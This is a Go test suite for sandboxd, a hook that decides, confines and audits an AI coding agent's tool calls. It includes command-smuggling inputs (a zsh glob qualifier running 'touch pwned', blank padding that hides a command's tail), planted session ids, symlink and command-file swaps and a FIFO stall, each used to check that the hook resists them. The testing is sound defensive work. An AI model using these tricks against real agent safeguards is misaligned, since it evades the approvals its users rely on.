package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sandboxd/sandboxd/audit"
	"github.com/sandboxd/sandboxd/internal/testutil"
)

type hookAnswer struct {
	HookSpecificOutput struct {
		HookEventName            string         `json:"hookEventName"`
		PermissionDecision       string         `json:"permissionDecision"`
		PermissionDecisionReason string         `json:"permissionDecisionReason"`
		UpdatedInput             map[string]any `json:"updatedInput"`
	} `json:"hookSpecificOutput"`
}

// runHook runs `sbctl hook` as u with the input and returns its raw stdout.
func runHook(t *testing.T, b bins, socket string, u testutil.User, rt string, input map[string]any, flags ...string) string {
	t.Helper()
	return runHookEnv(t, b, socket, u, rt, nil, input, flags...)
}

// runHookEnv is runHook with more of the agent's environment (SHELL, ...).
func runHookEnv(t *testing.T, b bins, socket string, u testutil.User, rt string, env []string, input map[string]any, flags ...string) string {
	t.Helper()
	return runHookAs(t, b, socket, u, rt, env, input, func(cmd *exec.Cmd) { asUser(t, cmd, u) }, flags...)
}

// runHookAs is runHookEnv with the process's credentials set by as.
func runHookAs(t *testing.T, b bins, socket string, u testutil.User, rt string, env []string, input map[string]any, as func(*exec.Cmd), flags ...string) string {
	t.Helper()
	in, err := json.Marshal(input)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(b.sbctl, append([]string{"--socket", socket, "hook"}, flags...)...)
	as(cmd)
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}, env...)
	cmd.Stdin = bytes.NewReader(in)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("sbctl hook: %v: %s", err, errb.String())
	}
	return out.String()
}

func decodeHook(t *testing.T, out string) hookAnswer {
	t.Helper()
	var a hookAnswer
	if err := json.Unmarshal([]byte(out), &a); err != nil {
		t.Fatalf("hook output %q: %v", out, err)
	}
	if a.HookSpecificOutput.HookEventName != "PreToolUse" {
		t.Errorf("hookEventName %q", a.HookSpecificOutput.HookEventName)
	}
	return a
}

func TestHookDecisions(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhk")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	base := func(tool string, input map[string]any) map[string]any {
		return map[string]any{"session_id": "agent-1", "cwd": work, "hook_event_name": "PreToolUse", "permission_mode": "default",
			"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_1"}
	}
	cases := []struct {
		name, tool string
		input      map[string]any
		flags      []string
		socket     string
		want       string
		reason     string
	}{
		{"read-only bash is allowed", "Bash", map[string]any{"command": "ls -la"}, nil, "", "allow", "read-only"},
		{"a write asks in default mode", "Bash", map[string]any{"command": "touch x"}, nil, "", "ask", "sandboxd asks"},
		{"a deny rule denies", "Bash", map[string]any{"command": "rm -f x"}, []string{"--deny", "Bash(rm:*)"}, "", "deny", "Bash(rm:*)"},
		{"Read inside the session", "Read", map[string]any{"file_path": filepath.Join(work, "nothing")}, nil, "", "allow", ""},
		{"an unknown tool asks", "WebSearch", map[string]any{"query": "x"}, nil, "", "ask", "does not run the tool"},
		{"a bad input is denied", "Bash", map[string]any{"command": "ls", "bogus": 1}, nil, "", "deny", "schema"},
		{"daemon down denies", "Bash", map[string]any{"command": "ls"}, nil, "/var/tmp/no-such-sandboxd.sock", "deny", "cannot reach sandboxd"},
		{"daemon down asks when told", "Bash", map[string]any{"command": "ls"}, []string{"--on-unavailable", "ask"}, "/var/tmp/no-such-sandboxd.sock", "ask", "cannot reach sandboxd"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			socket := d.socket
			if tc.socket != "" {
				socket = tc.socket
			}
			in := base(tc.tool, tc.input)
			if tc.flags != nil {
				// Rules are a session's: a separate agent session gets them.
				in["session_id"] = "agent-" + tc.name
			}
			a := decodeHook(t, runHook(t, b, socket, u, rt, in, tc.flags...))
			if a.HookSpecificOutput.PermissionDecision != tc.want || !strings.Contains(a.HookSpecificOutput.PermissionDecisionReason, tc.reason) {
				t.Errorf("decision %q reason %q; want %q mentioning %q", a.HookSpecificOutput.PermissionDecision, a.HookSpecificOutput.PermissionDecisionReason, tc.want, tc.reason)
			}
			if a.HookSpecificOutput.UpdatedInput != nil {
				t.Errorf("updatedInput without --confine: %v", a.HookSpecificOutput.UpdatedInput)
			}
		})
	}
	// The agent's own tools that act on nothing outside it (its to-do list, a question to its
	// user, a sub-agent whose calls come through the hook) are left to the agent: no answer.
	// Asked about, TodoWrite prompted the user on every call.
	for _, tool := range []string{"TodoWrite", "AskUserQuestion", "Task"} {
		if out := runHook(t, b, d.socket, u, rt, base(tool, map[string]any{}), "--mode", "default"); strings.TrimSpace(out) != "" {
			t.Errorf("%s: answered %s; want it left to the agent", tool, out)
		}
	}
	t.Run("one session per agent session, found again", func(t *testing.T) {
		ents, err := os.ReadDir(filepath.Join(rt, "sandboxd", "hook"))
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, e := range ents {
			if strings.HasSuffix(e.Name(), ".session") {
				n++
				fi, _ := e.Info()
				if fi.Mode().Perm() != 0o600 {
					t.Errorf("%s: mode %v", e.Name(), fi.Mode())
				}
			}
		}
		// agent-1, and the three with rules (two of them for the unreachable daemon never
		// got one).
		if n != 2 {
			t.Errorf("%d session files, want 2", n)
		}
	})
	t.Run("decided as the agent's shell reads it", func(t *testing.T) {
		// In zsh this ls runs touch for each file (a glob qualifier); bash reads an extended
		// glob. Without --confine the agent runs it in its own shell.
		qualifier := "ls *(e:'touch pwned':)"
		if _, err := os.Stat("/usr/bin/zsh"); err == nil {
			zsh := exec.Command("/usr/bin/zsh", "-f", "-c", qualifier)
			zsh.Dir = t.TempDir()
			if err := os.WriteFile(filepath.Join(zsh.Dir, "f"), nil, 0o644); err != nil {
				t.Fatal(err)
			}
			_ = zsh.Run()
			if _, err := os.Stat(filepath.Join(zsh.Dir, "pwned")); err != nil {
				t.Fatalf("zsh did not run the qualifier's code, so this test shows nothing: %v", err)
			}
		}
		for _, tc := range []struct {
			name    string
			env     []string
			flags   []string
			command string
			want    string
			reason  string
		}{
			// bash reads the qualifier as a plain glob: a path known only when it runs, which
			// the agent's own shell is not held to (TestHookUnknownPathsAsk).
			{"SHELL bash", []string{"SHELL=/bin/bash"}, nil, qualifier, "ask", "known only when it runs"},
			{"SHELL zsh", []string{"SHELL=/usr/bin/zsh"}, nil, qualifier, "ask", "zsh"},
			{"CLAUDE_CODE_SHELL over SHELL", []string{"SHELL=/bin/bash", "CLAUDE_CODE_SHELL=/bin/zsh"}, nil, qualifier, "ask", "zsh"},
			{"no SHELL reads as zsh", nil, nil, qualifier, "ask", "zsh"},
			{"SHELL fish reads as zsh", []string{"SHELL=/usr/bin/fish"}, nil, qualifier, "ask", "zsh"},
			{"--shell wins", []string{"SHELL=/usr/bin/zsh"}, []string{"--shell", "bash"}, qualifier, "ask", "known only when it runs"},
			{"--shell sh", nil, []string{"--shell", "sh"}, `echo $'a\' ; touch pwned ; # '`, "ask", "sh"},
			{"--shell fish is not classified", nil, []string{"--shell", "fish"}, "ls", "ask", "fish"},
			{"zsh under an allow rule", []string{"SHELL=/usr/bin/zsh"}, []string{"--allow", "Bash(ls:*)"}, qualifier, "ask", "zsh"},
			{"--confine runs it in sandboxd's bash", []string{"SHELL=/usr/bin/zsh"}, []string{"--confine"}, qualifier, "allow", "read-only"},
		} {
			in := base("Bash", map[string]any{"command": tc.command})
			if tc.flags != nil {
				in["session_id"] = "agent-shell-" + tc.name
			}
			a := decodeHook(t, runHookEnv(t, b, d.socket, u, rt, tc.env, in, tc.flags...))
			if a.HookSpecificOutput.PermissionDecision != tc.want || !strings.Contains(a.HookSpecificOutput.PermissionDecisionReason, tc.reason) {
				t.Errorf("%s: %q (%s); want %q mentioning %q", tc.name, a.HookSpecificOutput.PermissionDecision, a.HookSpecificOutput.PermissionDecisionReason, tc.want, tc.reason)
			}
		}
		if _, err := os.Stat(filepath.Join(work, "pwned")); err == nil {
			t.Error("a decision ran the command")
		}
	})
	t.Run("an event name it does not know is decided as PreToolUse", func(t *testing.T) {
		for _, ev := range []string{"pretooluse", "PreToolUse ", "BeforeTool"} {
			in := base("Bash", map[string]any{"command": "touch " + filepath.Join(work, "pwned")})
			in["hook_event_name"] = ev
			if a := decodeHook(t, runHook(t, b, d.socket, u, rt, in)); a.HookSpecificOutput.PermissionDecision != "ask" {
				t.Errorf("event %q: %+v", ev, a.HookSpecificOutput)
			}
		}
		for _, ev := range []string{"PermissionRequest", "UserPromptSubmit"} {
			in := base("Bash", map[string]any{"command": "ls"})
			in["hook_event_name"] = ev
			if out := runHook(t, b, d.socket, u, rt, in); out != "" {
				t.Errorf("event %s printed %q", ev, out)
			}
		}
	})
	t.Run("PostToolUse answers nothing and is recorded as the agent's report", func(t *testing.T) {
		in := base("Bash", map[string]any{"command": "ls"})
		in["hook_event_name"] = "PostToolUse"
		in["tool_use_id"] = "toolu_post_1"
		in["tool_response"] = map[string]any{"stdout": "a\nb\n", "stderr": "", "interrupted": false}
		if out := runHook(t, b, d.socket, u, rt, in); out != "" {
			t.Errorf("PostToolUse printed %q", out)
		}
		flagged := base("Bash", map[string]any{"command": "false"})
		delete(flagged, "hook_event_name") // an agent that names no event: --event says which
		flagged["tool_use_id"] = "toolu_post_2"
		flagged["tool_response"] = map[string]any{"is_error": true}
		if out := runHook(t, b, d.socket, u, rt, flagged, "--event", "PostToolUse"); out != "" {
			t.Errorf("--event PostToolUse printed %q", out)
		}
		unknown := base("Bash", map[string]any{"command": "ls"})
		unknown["session_id"] = "agent-never-decided"
		unknown["hook_event_name"] = "PostToolUse"
		if out := runHook(t, b, d.socket, u, rt, unknown); out != "" {
			t.Errorf("PostToolUse of an agent session sandboxd never saw printed %q", out)
		}
		recs := map[string]map[string]any{}
		for r, err := range audit.Query(filepath.Join(d.dir, "state", "audit"), audit.Filter{Kinds: []audit.Kind{audit.KindCallReport}}) {
			if err != nil {
				t.Fatal(err)
			}
			if r.Caller == nil || r.Caller.UID != u.UID || r.Tool != "Bash" || r.Detail["reported_by"] != "agent" {
				t.Errorf("report record: %+v", r)
			}
			recs[r.ToolUseID] = map[string]any{"is_error": r.Detail["is_error"], "input": string(r.Input)}
		}
		if len(recs) != 2 || recs["toolu_post_1"]["is_error"] != "false" || recs["toolu_post_2"]["is_error"] != "true" ||
			recs["toolu_post_2"]["input"] != `{"command":"false"}` {
			t.Errorf("call.report records: %v", recs)
		}
	})
	t.Run("a session id planted in the state file is not used", func(t *testing.T) {
		// A program that can write the state (a confined call whose directories hold it, when
		// there is no /run/user/UID) copies the id of another of the user's hook sessions, here
		// one in bypassPermissions, into this agent session's file.
		stateFile := func(agent, mode string) string {
			socket, _ := filepath.Abs(d.socket)
			// The hook's key with no session flags: cwd, mode, network, persist-cwd and
			// trust-project, the allow, deny and ask rules and the added dirs.
			key := strings.Join([]string{work, mode, "", "false false", "", "", "", ""}, "\x00")
			sum := sha256.Sum256([]byte(socket + "\x00" + agent + "\x00" + key))
			return filepath.Join(rt, "sandboxd", "hook", hex.EncodeToString(sum[:16])+".session")
		}
		bypass := base("Bash", map[string]any{"command": "touch x"})
		bypass["session_id"], bypass["permission_mode"] = "agent-bypass", "bypassPermissions"
		if a := decodeHook(t, runHook(t, b, d.socket, u, rt, bypass)); a.HookSpecificOutput.PermissionDecision != "allow" {
			t.Fatalf("bypassPermissions: %+v", a)
		}
		planted, err := os.ReadFile(stateFile("agent-bypass", "bypassPermissions"))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(stateFile("agent-1", "default"), planted, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(stateFile("agent-1", "default"), int(u.UID), int(u.GID)); err != nil {
			t.Fatal(err)
		}
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, base("Bash", map[string]any{"command": "touch x"})))
		if a.HookSpecificOutput.PermissionDecision != "ask" {
			t.Errorf("default mode with a bypassPermissions session's id planted: %+v", a)
		}
		if now, _ := os.ReadFile(stateFile("agent-1", "default")); string(now) == string(planted) {
			t.Error("the planted id is still in the state file")
		}
	})
	t.Run("the session is recreated when the daemon lost it", func(t *testing.T) {
		ents, _ := filepath.Glob(filepath.Join(rt, "sandboxd", "hook", "*.session"))
		for _, p := range ents {
			if err := os.WriteFile(p, []byte("s_gone\n"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, base("Bash", map[string]any{"command": "ls"})))
		if a.HookSpecificOutput.PermissionDecision != "allow" {
			t.Errorf("after a lost session: %+v", a)
		}
	})
	t.Run("leaving plan mode asks the person", func(t *testing.T) {
		// Plan mode denies what is not read-only, but its way out is the approval of the plan:
		// a deny would leave the agent in plan mode for good.
		in := base("ExitPlanMode", map[string]any{"plan": "1. edit main.go"})
		in["permission_mode"] = "plan"
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, in)).HookSpecificOutput
		if a.PermissionDecision != "ask" || !strings.Contains(a.PermissionDecisionReason, "person") {
			t.Errorf("ExitPlanMode in plan mode: %+v", a)
		}
		in = base("Write", map[string]any{"file_path": filepath.Join(work, "f"), "content": "x"})
		in["permission_mode"] = "plan"
		if a := decodeHook(t, runHook(t, b, d.socket, u, rt, in)).HookSpecificOutput; a.PermissionDecision != "deny" {
			t.Errorf("Write in plan mode: %+v", a)
		}
	})
}

// TestHookConfine runs what --confine rewrites as the agent would (bash -c, as the agent's
// user): the original runs inside sandboxd, confined, with its output and exit code unchanged.
func TestHookConfine(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhc")
	var utf, many strings.Builder
	for i := 1; i <= 40000; i++ {
		fmt.Fprintf(&utf, "línea %d: ünïcödé ✓ 日本語\n", i)
	}
	many.WriteString(strings.Repeat("y", 5_000_000))
	cases := []struct {
		name, command string
		stdout        string
		stderr        string
		code          int
	}{
		{"exit code and both streams", `echo out; echo err >&2; exit 7`, "out\n", "err\n", 7},
		{"quotes", `printf '%s|' "it's" 'say "hi"' \'x\'; echo`, `it's|say "hi"|'x'|` + "\n", "", 0},
		{"newlines", "echo a\necho 'b\nc'", "a\nb\nc\n", "", 0},
		{"command substitution stays inside", `echo "$(id -u) $(echo nested)"`, "", "", 0},
		{"a rewrite-like text is just text", `echo "'; exit 99; '" && echo done`, "'; exit 99; '\ndone\n", "", 0},
		{"confined", `grep -E '^(NoNewPrivs|Seccomp):' /proc/$$/status`, "NoNewPrivs:\t1\nSeccomp:\t2\n", "", 0},
		{"a signal", `kill -TERM $$`, "", "", 143},
		// At its timeout the agent moves the launcher to the background and goes on reading
		// it: sandboxd runs on, so a command outliving the call's timeout ends as it would.
		{"past the call's timeout", `sleep 1.5; echo late`, "late\n", "", 0},
		// Exactly the command's bytes: characters split between reads, bytes that are no
		// UTF-8 at all, and output past what the daemon streams (4 MiB), on both streams.
		{"UTF-8 split between reads", `for i in $(seq 40000); do printf 'línea %d: ünïcödé ✓ 日本語\n' $i; done > utf.txt && cat utf.txt`, utf.String(), "", 0},
		{"bytes that are not UTF-8", `printf '\xff\xfe\x00ab\xe2\x9c'; printf '\xc3' >&2`, "\xff\xfe\x00ab\xe2\x9c", "\xc3", 0},
		{"past what is streamed", `head -c 5000000 /dev/zero | tr '\0' y; head -c 4500000 /dev/zero | tr '\0' z >&2`, many.String(), strings.Repeat("z", 4_500_000), 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			timeoutMs := 60000
			if strings.Contains(tc.name, "timeout") {
				timeoutMs = 500
			}
			in := map[string]any{"session_id": "agent-c", "cwd": u.Home, "hook_event_name": "PreToolUse",
				"permission_mode": "bypassPermissions", "tool_name": "Bash",
				"tool_input": map[string]any{"command": tc.command, "description": "test", "timeout": timeoutMs}}
			a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
			hs := a.HookSpecificOutput
			if hs.PermissionDecision != "allow" {
				t.Fatalf("decision %q: %s", hs.PermissionDecision, hs.PermissionDecisionReason)
			}
			rewritten, _ := hs.UpdatedInput["command"].(string)
			if hs.UpdatedInput["description"] != "test" || hs.UpdatedInput["timeout"] != float64(timeoutMs) || !strings.Contains(rewritten, "--command-file") {
				t.Fatalf("updatedInput %v", hs.UpdatedInput)
			}
			cmd := exec.Command("bash", "-c", rewritten)
			asUser(t, cmd, u)
			cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home}
			var out, errb bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &errb
			err := cmd.Run()
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			want := tc.stdout
			if tc.name == "command substitution stays inside" {
				want = strings.TrimSpace(string(mustOutput(t, "id", "-u", u.Name))) + " nested\n"
			}
			if code != tc.code || out.String() != want || errb.String() != tc.stderr {
				t.Errorf("exit %d stdout %.300q (%d bytes) stderr %.300q (%d bytes); want %d %.300q (%d bytes) %.300q (%d bytes)",
					code, out.String(), out.Len(), errb.String(), errb.Len(), tc.code, want, len(want), tc.stderr, len(tc.stderr))
			}
			// The command file is gone once run: a rewrite runs its command once.
			if files, _ := filepath.Glob(filepath.Join(rt, "sandboxd", "hook", "cmd-*")); len(files) != 0 {
				t.Errorf("command files left: %v", files)
			}
		})
	}
	t.Run("NUL is refused", func(t *testing.T) {
		in := map[string]any{"session_id": "agent-c", "cwd": u.Home, "permission_mode": "bypassPermissions",
			"tool_name": "Bash", "tool_input": map[string]any{"command": "echo a\x00b"}}
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
		if a.HookSpecificOutput.PermissionDecision != "deny" || a.HookSpecificOutput.UpdatedInput != nil {
			t.Errorf("NUL command: %+v", a.HookSpecificOutput)
		}
	})
	t.Run("an ask quotes the command the rewrite hides", func(t *testing.T) {
		// The agent shows its user the launcher it was given, so the reason carries the
		// command, whole: padding cannot push its tail out of sight, and one too long to show
		// is refused rather than put to the user unseen.
		padded := "git status" + strings.Repeat(" ", 600) + "; touch tail-of-ask"
		in := map[string]any{"session_id": "agent-ask", "cwd": u.Home, "permission_mode": "default",
			"tool_name": "Bash", "tool_input": map[string]any{"command": padded}}
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
		h := a.HookSpecificOutput
		if h.PermissionDecision != "ask" || !strings.Contains(h.PermissionDecisionReason, "Approving runs, confined: git status ⟨600 blanks⟩ ; touch tail-of-ask") || h.UpdatedInput == nil {
			t.Errorf("asked padded command: %+v", h)
		}
		in["tool_input"] = map[string]any{"command": "touch " + strings.Repeat("x", 9500)}
		a = decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
		if h := a.HookSpecificOutput; h.PermissionDecision != "deny" || !strings.Contains(h.PermissionDecisionReason, "too long to show") || h.UpdatedInput != nil {
			t.Errorf("an asked command too long to show: %+v", h)
		}
		// The user never approved the first: the agent would not run its rewrite.
		files, _ := filepath.Glob(filepath.Join(rt, "sandboxd", "hook", "cmd-*"))
		if len(files) != 1 {
			t.Errorf("command files after one rewrite and one refusal: %v", files)
		}
		for _, f := range files {
			_ = os.Remove(f)
		}
	})
	t.Run("an ask the agent may answer without a person is asked again", func(t *testing.T) {
		// In auto mode the agent's classifier may answer the hook's ask: its yes is not the
		// owner's, so the rewrite carries no --approved and the command waits on sandboxd's own
		// ask, where the person answers it (here: deny). A person's yes (default mode) runs it.
		for _, c := range []struct {
			mode    string
			approve bool
		}{{"auto", false}, {"acceptEdits", true}} {
			marker := filepath.Join(u.Home, "asked-"+c.mode)
			in := map[string]any{"session_id": "agent-auto-" + c.mode, "cwd": u.Home, "permission_mode": c.mode,
				"tool_name": "Bash", "tool_input": map[string]any{"command": "curl -s http://127.0.0.1:9/ ; touch " + marker}}
			a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
			h := a.HookSpecificOutput
			rewritten, _ := h.UpdatedInput["command"].(string)
			if h.PermissionDecision != "ask" || strings.Contains(rewritten, "--approved") == !c.approve ||
				strings.Contains(rewritten, "--wait") == c.approve || strings.Contains(h.PermissionDecisionReason, "sbctl approvals") == c.approve {
				t.Fatalf("%s: %+v", c.mode, h)
			}
			cmd := exec.Command("bash", "-c", rewritten)
			asUser(t, cmd, u)
			cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			if !c.approve {
				// Waiting on sandboxd's ask: the person denies it in sbctl approvals.
				denied := false
				for i := 0; i < 100 && !denied; i++ {
					list := exec.Command(b.sbctl, "--socket", d.socket, "--json", "approvals")
					asUser(t, list, u)
					lo, _ := list.Output()
					var pending []struct{ ID string }
					if json.Unmarshal(lo, &pending) == nil && len(pending) == 1 {
						deny := exec.Command(b.sbctl, "--socket", d.socket, "deny", pending[0].ID)
						asUser(t, deny, u)
						denied = deny.Run() == nil
					}
					time.Sleep(100 * time.Millisecond)
				}
				if !denied {
					t.Errorf("%s: the rewrite did not wait on an ask in sbctl approvals", c.mode)
				}
			}
			_ = cmd.Wait()
			if _, err := os.Stat(marker); (err == nil) != c.approve {
				t.Errorf("%s: the rewrite ran the command: %v; output %s", c.mode, err == nil, out.String())
			}
		}
	})
	t.Run("an approval answers only the ask the user saw", func(t *testing.T) {
		// The user approved rm -rf build/ (not read-only); build then became a link to the
		// project itself, which makes the same command a critical rm, a question they were
		// never asked: the launcher leaves that ask unanswered and nothing runs.
		proj := filepath.Join(u.Home, "proj-approved")
		mkdirAs := func(p string) {
			if err := os.MkdirAll(p, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Chown(p, int(u.UID), int(u.GID)); err != nil {
				t.Fatal(err)
			}
		}
		mkdirAs(proj)
		keep := filepath.Join(proj, "keep.c")
		if err := os.WriteFile(keep, []byte("int main;"), 0o644); err != nil {
			t.Fatal(err)
		}
		for i, swap := range []bool{true, false} {
			build := filepath.Join(proj, "build")
			os.Remove(build)
			mkdirAs(build)
			in := map[string]any{"session_id": fmt.Sprint("agent-approved-", i), "cwd": proj, "permission_mode": "default",
				"tool_name": "Bash", "tool_input": map[string]any{"command": "rm -rf build/"}}
			h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine")).HookSpecificOutput
			rewritten, _ := h.UpdatedInput["command"].(string)
			if h.PermissionDecision != "ask" || !strings.Contains(rewritten, "--approved") {
				t.Fatalf("rm -rf build/: %+v", h)
			}
			if swap {
				if err := os.Remove(build); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(".", build); err != nil {
					t.Fatal(err)
				}
				_ = os.Lchown(build, int(u.UID), int(u.GID))
			}
			cmd := exec.Command("bash", "-c", rewritten) // the user said yes to the agent's prompt
			asUser(t, cmd, u)
			cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}
			out, err := cmd.CombinedOutput()
			_, keepErr := os.Stat(keep)
			_, buildErr := os.Lstat(build)
			switch {
			case swap && (keepErr != nil || err == nil || !strings.Contains(string(out), "another reason")):
				t.Errorf("swapped to a link to the project: err %v, keep.c there: %v, output %s", err, keepErr == nil, out)
			case !swap && (err != nil || buildErr == nil || keepErr != nil):
				t.Errorf("as approved: err %v, build removed: %v, keep.c there: %v, output %s", err, buildErr != nil, keepErr == nil, out)
			}
		}
	})
	t.Run("a swapped command file runs nothing", func(t *testing.T) {
		in := map[string]any{"session_id": "agent-c", "cwd": u.Home, "permission_mode": "bypassPermissions",
			"tool_name": "Bash", "tool_input": map[string]any{"command": "echo decided"}}
		a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--confine"))
		files, _ := filepath.Glob(filepath.Join(rt, "sandboxd", "hook", "cmd-*"))
		if len(files) != 1 {
			t.Fatalf("command files: %v", files)
		}
		if err := os.WriteFile(files[0], []byte("echo swapped"), 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command("bash", "-c", a.HookSpecificOutput.UpdatedInput["command"].(string))
		asUser(t, cmd, u)
		out, err := cmd.CombinedOutput()
		if err == nil || strings.Contains(string(out), "swapped\n") || !strings.Contains(string(out), "SHA-256") {
			t.Errorf("swapped file: err %v, output %q", err, out)
		}
	})
}

// TestHookStateCannotStallIt: an agent runs a call whose hook never answers, so nothing may
// keep the hook from answering. Without a runtime dir the hook keeps its state under
// ~/.cache, which a session may have writable (sandbox.cache_dirs): there a confined call
// cannot replace it, a FIFO put in its place (by anyone) is refused rather than waited on, and
// whatever else blocks the hook past --timeout gets the answer for an undecided call.
func TestHookStateCannotStallIt(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "sandbox:\n  cache_dirs: [\"~/.cache\"]\n")
	// The user's home as the daemon knows it: the calls' ~ and HOME.
	u := testutil.CreateUser(t, "sbhs")
	noRuntime := []string{"XDG_RUNTIME_DIR="}
	state := filepath.Join(u.Home, ".cache", "sandboxd", "hook")
	bash := func(t *testing.T, agent, command string) hookAnswer {
		in := map[string]any{"session_id": agent, "cwd": u.Home, "permission_mode": "bypassPermissions",
			"tool_name": "Bash", "tool_input": map[string]any{"command": command}}
		return decodeHook(t, runHookEnv(t, b, d.socket, u, "", noRuntime, in, "--confine", "--timeout", "5s"))
	}
	run := func(t *testing.T, a hookAnswer) string {
		t.Helper()
		if a.HookSpecificOutput.PermissionDecision != "allow" {
			t.Fatalf("decision %+v", a.HookSpecificOutput)
		}
		cmd := exec.Command("bash", "-c", a.HookSpecificOutput.UpdatedInput["command"].(string))
		asUser(t, cmd, u)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home}
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	t.Run("a confined call cannot replace the state", func(t *testing.T) {
		out := run(t, bash(t, "agent-s", `cd ~/.cache/sandboxd/hook && for f in *.session *.root; do mv "$f" "$f.old" || echo kept; : > "$f" || echo kept; done; mkfifo x.session || echo refused; touch ~/.cache/other && echo cache-writable`))
		if strings.Count(out, "kept") < 4 || !strings.Contains(out, "refused") || !strings.Contains(out, "cache-writable") {
			t.Errorf("confined call on the hook's state:\n%s", out)
		}
		for _, pat := range []string{"*.session", "*.root"} {
			if m, _ := filepath.Glob(filepath.Join(state, pat)); len(m) != 1 {
				t.Errorf("%s after the call: %v", pat, m)
			}
		}
		if out := run(t, bash(t, "agent-s", "echo again")); out != "again\n" {
			t.Errorf("next call: %q", out)
		}
		// Nor may the agent's own Write tool replace it unasked.
		roots, _ := filepath.Glob(filepath.Join(state, "*.root"))
		for _, mode := range []string{"acceptEdits", "bypassPermissions"} {
			in := map[string]any{"session_id": "agent-w", "cwd": u.Home, "permission_mode": mode,
				"tool_name": "Write", "tool_input": map[string]any{"file_path": roots[0], "content": "/\n"}}
			a := decodeHook(t, runHookEnv(t, b, d.socket, u, "", noRuntime, in))
			if h := a.HookSpecificOutput; h.PermissionDecision == "allow" || !strings.Contains(h.PermissionDecisionReason, "protected") {
				t.Errorf("Write of the hook's state, %s: %+v", mode, h)
			}
		}
	})
	t.Run("a FIFO in place of the state is refused, not waited on", func(t *testing.T) {
		bash(t, "agent-f", "true") // the agent session's files
		for _, pat := range []string{"*.session", "*.root"} {
			m, _ := filepath.Glob(filepath.Join(state, pat))
			for _, f := range m {
				// Made by the user (outside any sandbox), as the agent itself could.
				cmd := exec.Command("sh", "-c", `rm -f "$1" && mkfifo -m 600 "$1"`, "sh", f)
				asUser(t, cmd, u)
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("mkfifo: %v %s", err, out)
				}
			}
		}
		start := time.Now()
		a := bash(t, "agent-f", "echo hi")
		if h := a.HookSpecificOutput; h.PermissionDecision != "deny" || !strings.Contains(h.PermissionDecisionReason, "not a private regular file") || h.UpdatedInput != nil {
			t.Errorf("FIFO state: %+v", h)
		}
		if el := time.Since(start); el > 4*time.Second {
			t.Errorf("the hook took %v over a FIFO: it waited on it", el)
		}
	})
	t.Run("what blocks past --timeout is answered as undecided", func(t *testing.T) {
		// An input that never ends (the agent's pipe left open) blocks the hook where no
		// deadline reaches: the watchdog answers.
		r, w, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer w.Close()
		cmd := exec.Command(b.sbctl, "--socket", d.socket, "hook", "--timeout", "1s")
		asUser(t, cmd, u)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home}
		cmd.Stdin = r
		var out bytes.Buffer
		cmd.Stdout = &out
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		r.Close()
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		select {
		case err := <-done:
			if err != nil {
				t.Fatalf("hook: %v", err)
			}
		case <-time.After(20 * time.Second):
			_ = cmd.Process.Kill()
			t.Fatal("the hook did not answer within 20 s of its 1 s --timeout")
		}
		a := decodeHook(t, out.String())
		if h := a.HookSpecificOutput; h.PermissionDecision != "deny" || !strings.Contains(h.PermissionDecisionReason, "within 1s") {
			t.Errorf("blocked hook: %+v", h)
		}
	})
}

func mustOutput(t *testing.T, name string, args ...string) []byte {
	t.Helper()
	out, err := exec.Command(name, args...).Output()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

// TestHookFlagsPickTheSession: the session flags a hook runs with are part of what picks the
// agent session's sandboxd session, so a --deny added to the hook command applies to the
// agent's next call, not only once the old session goes idle.
